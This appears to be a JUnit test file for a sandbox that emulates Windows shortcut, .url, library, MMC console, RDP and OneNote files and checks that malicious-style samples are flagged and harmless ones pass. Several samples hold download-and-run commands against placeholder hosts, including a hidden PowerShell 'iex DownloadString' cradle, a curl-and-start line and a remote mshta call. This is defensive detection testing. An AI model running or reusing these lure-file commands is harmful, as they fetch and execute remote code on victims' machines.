package dev.peekaboo.emulation.link;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peekaboo.emulation.Emulated;
import dev.peekaboo.emulation.Language;
import dev.peekaboo.emulation.Traces;
import dev.peekaboo.report.EmulationReport;
import dev.peekaboo.report.EmulationReport.Child;
import dev.peekaboo.report.SandboxReport.Completeness;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.charset.StandardCharsets;
import java.util.Random;
import java.util.stream.LongStream;
import java.util.stream.Stream;

/** Harmless links in the styles of mailed ones, and what they do. */
class LinkTest {
    /**
     * A sample.
     *
     * @param expected findings
     */
    record Sample(String name, Language language, String text, String... expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static Sample lnk(String name, String bytes, String... expected) {
        return new Sample(name, Language.LNK, bytes, expected);
    }

    static Stream<Sample> bad_links_show_what_they_do() {
        return Stream.concat(shortcuts(), files());
    }

    private static Stream<Sample> shortcuts() {
        return Stream.of(
                lnk(
                        "PowerShell by environment",
                        ShellLinks.byEnvironment(
                                "%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                "-w hidden -c \"iex (New-Object Net.WebClient).DownloadString('http://files.example/a')\"",
                                "C:\\Windows\\System32\\imageres.dll"),
                        "shortcut_starts_interpreter",
                        "runs_downloaded_code"),
                lnk(
                        "cmd by path, download and run",
                        ShellLinks.byPath(
                                "C:\\Windows\\System32\\cmd.exe",
                                "/c curl -o %TEMP%\\a.exe http://files.example/a.exe && start %TEMP%\\a.exe"),
                        "shortcut_starts_interpreter",
                        "download_and_run"),
                lnk(
                        "mshta by items",
                        ShellLinks.byItems(
                                "http://files.example/a.hta",
                                "C:",
                                "Windows",
                                "System32",
                                "mshta.exe"),
                        "shortcut_starts_interpreter"),
                lnk(
                        "comspec with many blanks",
                        ShellLinks.byEnvironment(
                                "%comspec%", " ".repeat(200) + "/c start rundll32 a.dll,Go", ""),
                        "shortcut_starts_interpreter",
                        "shortcut_hides_arguments"),
                lnk(
                        "program on a share",
                        ShellLinks.byShare("\\\\203.0.113.5\\docs", "invoice.exe"),
                        "link_runs_from_stranger"),
                lnk(
                        "folder on a web server",
                        ShellLinks.byEnvironment("\\\\files.example@80\\DavWWWRoot\\a.pdf", "", ""),
                        "link_opens_webdav"),
                lnk(
                        "program in the folder beside it, icon from a stranger",
                        ShellLinks.byEnvironment(
                                "C:\\Users\\Public\\a.exe", "", "\\\\files.example\\s\\i.ico"),
                        "shortcut_starts_program",
                        "link_loads_icon_from_stranger"),
                lnk(
                        "carries a program",
                        ShellLinks.byPath("C:\\Windows\\explorer.exe", ".") + "MZ".repeat(400),
                        "shortcut_carries_program"));
    }

    private static Stream<Sample> files() {
        return Stream.of(
                new Sample(
                        "program on a share",
                        Language.URL,
                        "[InternetShortcut]\r\nURL=file://203.0.113.5/docs/a.vbs\r\n",
                        "link_runs_from_stranger"),
                new Sample(
                        "share and icon",
                        Language.URL,
                        "[InternetShortcut]\nURL=\\\\files.example\\share\\a.pdf\nIconFile=\\\\files.example\\share\\a.ico\nIconIndex=1",
                        "link_opens_share_of_stranger",
                        "link_loads_icon_from_stranger"),
                new Sample(
                        "folder on a web server",
                        Language.URL,
                        "[InternetShortcut]\nURL=file:\\\\files.example@ssl@443\\DavWWWRoot\\a\n",
                        "link_opens_webdav"),
                new Sample(
                        "search",
                        Language.URL,
                        "[InternetShortcut]\nURL=search-ms:query=a&crumb=location:\\\\files.example\\a\n",
                        "link_opens_windows_address"),
                new Sample(
                        "library of a stranger",
                        Language.LIBRARY,
                        "<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\203.0.113.5\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>",
                        "link_opens_library_of_stranger"),
                new Sample(
                        "settings that start a command",
                        Language.SETTINGS,
                        "<?xml version=\"1.0\"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>",
                        "shortcut_starts_interpreter"),
                new Sample(
                        "console with a script",
                        Language.CONSOLE,
                        "<?xml version=\"1.0\"?><MMC_ConsoleFile><StringTables><String ID=\"1\">res://apds.dll/redirect.html?target=javascript:eval(external.Document.ScopeNamespace)</String></StringTables></MMC_ConsoleFile>",
                        "console_runs_script"),
                new Sample(
                        "console with a task",
                        Language.CONSOLE,
                        "<MMC_ConsoleFile><ConsoleTaskpads><ConsoleTaskpad><Tasks><Task Type=\"CommandLine\" Command=\"cmd.exe\"><String Name=\"Params\" Value=\"/c calc\"/></Task></Tasks></ConsoleTaskpad></ConsoleTaskpads></MMC_ConsoleFile>",
                        "shortcut_starts_interpreter"),
                new Sample(
                        "remote desktop with drives",
                        Language.RDP,
                        "full address:s:desk.example.org\r\ndrivestoredirect:s:*\r\nremoteapplicationmode:i:1\r\nremoteapplicationprogram:s:||check\r\n",
                        "remote_desktop_shares_drives",
                        "remote_desktop_runs_program"));
    }

    @ParameterizedTest
    @MethodSource
    void bad_links_show_what_they_do(Sample sample) {
        EmulationReport report = Emulated.run(sample.language(), sample.text(), "a.lnk");

        assertThat(Emulated.ids(report)).as(Emulated.told(report)).contains(sample.expected());
        assertThat(Traces.isBad(report.findings())).as(Emulated.told(report)).isTrue();
    }

    static Stream<Sample> harmless_links_are_complete_and_not_bad() {
        return Stream.of(
                lnk("a document", ShellLinks.byPath("C:\\Users\\me\\Documents\\letter.docx", "")),
                lnk(
                        "a document on the own server",
                        ShellLinks.byShare("\\\\fileserver\\docs", "plan.xlsx")),
                lnk("a program", ShellLinks.byItems("", "C:", "Program Files", "App", "app.exe")),
                new Sample(
                        "a web page",
                        Language.URL,
                        "[InternetShortcut]\r\nURL=https://www.example.com/\r\nIconFile=C:\\Windows\\a.ico\r\n"),
                new Sample(
                        "a page with its own icon",
                        Language.URL,
                        "[InternetShortcut]\nURL=https://www.example.com/a?b=c\nIconFile=https://www.example.com/favicon.ico\nIDList=\n"),
                new Sample(
                        "an own server",
                        Language.URL,
                        "[InternetShortcut]\nURL=file://fileserver/docs/plan.xlsx\n"),
                new Sample(
                        "an own library",
                        Language.LIBRARY,
                        "<libraryDescription><searchConnectorDescription><simpleLocation><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></searchConnectorDescription></libraryDescription>"),
                new Sample(
                        "a settings page",
                        Language.SETTINGS,
                        "<PCSettings><DeepLink>%windir%\\system32\\SystemSettings.exe</DeepLink></PCSettings>"),
                new Sample(
                        "the own terminal server",
                        Language.RDP,
                        "screen mode id:i:2\r\nfull address:s:ts.example.local\r\ndrivestoredirect:s:*\r\nalternate shell:s:app.exe\r\n"),
                new Sample(
                        "a server of the provider",
                        Language.RDP,
                        "full address:s:ts.provider.example:3389\r\nredirectclipboard:i:1\r\n"),
                new Sample(
                        "a console",
                        Language.CONSOLE,
                        "<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"><StringTables><String ID=\"1\">Favorites</String><String ID=\"2\">Services</String></StringTables></MMC_ConsoleFile>"),
                new Sample(
                        "a query of the own server",
                        Language.IQY,
                        "WEB\n1\nhttp://sharepoint/_vti_bin/owssvr.dll?Using=Default\n"));
    }

    @ParameterizedTest
    @MethodSource
    void harmless_links_are_complete_and_not_bad(Sample sample) {
        EmulationReport report = Emulated.run(sample.language(), sample.text(), "a.lnk");

        assertThat(Traces.isBad(report.findings())).as(Emulated.told(report)).isFalse();
        assertThat(report.completeness())
                .as(Emulated.told(report))
                .isEqualTo(Completeness.COMPLETE);
    }

    @Test
    void files_in_a_notebook_come_out_under_their_names() {
        String guid =
                "\u00e7\u0016\u00e3\u00bd\u0065\u0026\u0011\u0045\u00a4\u00c4\u008d\u004d\u000b\u007a\u009e\u00ac";
        String script = "<script>x</script>";
        String name =
                new String(
                        "Open.hta\0".getBytes(StandardCharsets.UTF_16LE),
                        StandardCharsets.ISO_8859_1);
        String notebook =
                "\u0012\0\0\0"
                        + name
                        + guid
                        + (char) script.length()
                        + "\0".repeat(19)
                        + script
                        + guid
                        + "\u0008"
                        + "\0".repeat(19)
                        + "\u0089PNG....";

        EmulationReport report = Emulated.run(Language.ONENOTE, notebook, "a.one");

        assertThat(report.children()).hasSize(1);
        assertThat(report.children()).extracting(Child::name).containsExactly("Open.hta");
        assertThat(report.children().getFirst().content().sizeBytes()).isEqualTo(script.length());
    }

    static LongStream seeds() {
        return LongStream.range(0, 300);
    }

    @ParameterizedTest
    @MethodSource("seeds")
    void broken_links_never_break_the_emulation(long seed) {
        Random random = new Random(seed);
        Sample sample =
                bad_links_show_what_they_do().skip(random.nextInt(17)).findFirst().orElseThrow();
        StringBuilder link = new StringBuilder(sample.text());
        for (int i = random.nextInt(20); i >= 0; i--)
            link.setCharAt(random.nextInt(link.length()), (char) random.nextInt(256));
        link.setLength(random.nextInt(link.length()) + 1);

        EmulationReport report = Emulated.run(sample.language(), link.toString(), "a.lnk");

        assertThat(report.incomplete())
                .as("seed %d of %s", seed, sample)
                .noneMatch(gap -> gap.contains("the emulation broke"));
    }

    @Test
    void what_is_no_shortcut_could_not_be_read() {
        EmulationReport report = Emulated.run(Language.LNK, "L\0\0\0", "a.lnk");

        assertThat(report.completeness()).isNotEqualTo(Completeness.COMPLETE);
    }
}
